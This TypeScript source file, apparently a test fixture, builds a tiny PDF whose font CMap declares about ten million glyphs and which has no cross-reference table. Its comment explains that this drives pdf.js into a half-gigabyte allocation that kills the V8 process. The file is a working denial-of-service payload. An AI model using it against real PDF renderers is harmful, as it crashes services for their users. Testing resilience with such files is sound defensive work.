/**
 * A PDF of a kilobyte that asks for half a gigabyte at once: its font numbers ten million letters, and the table that pdf.js
 * keeps them in doubles whenever it is full. A thread's cap cannot refuse so much at one time, and V8 ends the whole process.
 */
export function hungryPdf(): Uint8Array {
  const letters = '1 begincodespacerange <000000> <FFFFFF> endcodespacerange';
  const numbers = '1 begincidrange <000000> <989680> 0 endcidrange';
  const words = 'BT /F 12 Tf 72 72 Td <000041> Tj ET';
  const stream = (data: string, about = ''): string =>
    `<< ${about} /Length ${data.length} >>\nstream\n${data}\nendstream`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 5 0 R >> >> /Contents 4 0 R >>',
    stream(words),
    '<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding 6 0 R /DescendantFonts [7 0 R] >>',
    stream(`${letters}\n${numbers}`, '/Type /CMap /CMapName /A'),
    '<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>',
  ];
  const body = objects.map((object, i) => `${i + 1} 0 obj\n${object}\nendobj\n`).join('');
  // Without a table of where its objects are: whoever reads it looks for them.
  return new TextEncoder().encode(`%PDF-1.7\n${body}trailer\n<< /Root 1 0 R >>\n%%EOF\n`);
}
